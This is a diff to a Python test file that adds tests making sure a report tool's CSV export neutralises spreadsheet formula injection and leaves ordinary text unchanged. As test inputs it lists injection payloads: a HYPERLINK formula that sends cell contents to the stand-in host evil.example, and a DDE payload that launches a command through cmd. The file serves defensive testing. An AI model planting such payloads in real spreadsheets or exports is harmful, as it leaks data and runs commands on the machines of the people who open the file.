@@ -4,6 +4,7 @@ parsed or run: no line of it is anybody's code, link or formula.
 
 import ast
 import contextlib
+import csv
 import io
 import re
 import sys
@@ -12,13 +13,16 @@ from html.parser import HTMLParser
 from types import ModuleType, SimpleNamespace
 from typing import Any
 
+import pandas as pd
 import pytest
 from markdown_it import MarkdownIt
 
 from dpmf_core.runs.record import Run
 from dpmf_core.runs.reports import report, script
+from dpmf_core.runs.spreadsheets import harmless, harmless_row
 from dpmf_core.runs.store import summarise
 from pages.kit import safe_text
+from pages.kit.safe_text import to_csv
 from pages.runs import comparison
 from tests.support.records import run_of
 
@@ -112,7 +116,15 @@ def test_the_report_has_no_tag_or_attribute_of_others(attack: tuple[str, dict[st
     assert {tag for tag, _ in reader.tags} <= tags
     names = {name for _, attributes in reader.tags for name in attributes}
     own = "lang charset name content viewbox role aria-label fill stroke stroke-width points"
-    assert names <= {*own.split(), "stroke-linecap", "x", "y", "font-size", "text-anchor"}
+    assert names <= {
+        *own.split(),
+        "stroke-dasharray",
+        "stroke-linecap",
+        "x",
+        "y",
+        "font-size",
+        "text-anchor",
+    }
 
 
 ADDRESS = re.compile(r"https?://|www\.|\w@\w")
@@ -141,3 +153,42 @@ def test_markdown_has_no_link_image_or_tag_of_others(
     )
     plain = "paragraph_open paragraph_close inline text text_special softbreak hardbreak"
     assert {child.type for child in children} <= {*plain.split(), "code_inline"}
+
+
+FORMULA = re.compile(r"[\s\"\ufeff\u200b]*[=+\-@＝＋－＠](?=.*[^\d.,%\s;:|eE+\"-])")
+
+
+def cells(text: str, separator: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
+
+
+@pytest.mark.parametrize(
+    "before",
+    ["", "x;", "x\t", "x|", "x; ", 'x;"', "x\n", "x\r\n", "x,", "\ufeff", " ", "x；", "1;", "-1;"],
+)
+@pytest.mark.parametrize(
+    "lure",
+    ['=HYPERLINK("http://evil.example/?"&A1;"more")', "=1+cmd|' /C calc'!A0", "+A1", "-2+A1",
+     "@SUM(A1)", "= HYPERLINK(A1)", "＝A1", "=-A1"],
+)  # fmt: skip
+def test_a_formula_is_none_wherever_it_stands(before: str, lure: str) -> None:
+    text = to_csv(pd.DataFrame({f"{before}{lure}": [f"{before}{lure}"], "next": ["plain"]}))
+    for separator in ",;\t|":
+        assert not [cell for cell in cells(text, separator) if FORMULA.match(cell)], text
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["Live and Let Die (1973)", "Rocky II - the second", "low-rank", "a, b; c", "-", "--", "-2",
+     "ε = 2.00 (δ = 1e-05, per user, add/remove, exact)", "+3.5 %", "-1e-05", "-1,5", "1; -2; -3",
+     "from -5 to +3", "me@example.org", "C++ & C", "a -> b", "rank=4, epsilon=0.5", "it's", "",
+     "50% - 60%", "2026-11-22 10:00", "Grüße, 😀"],
+)  # fmt: skip
+def test_ordinary_texts_stay_as_they_are(text: str) -> None:
+    assert harmless(text) == text
+
+
+def test_what_is_no_text_stays_and_a_row_is_marked_in_names_and_cells() -> None:
+    row = {"=a": "x;=b", "n": -1.5, "none": None, "flag": True}
+    assert harmless_row(row) == {"'=a": "x;'=b", "n": -1.5, "none": None, "flag": True}
+    assert harmless(harmless("x;=b")) == harmless("x;=b")
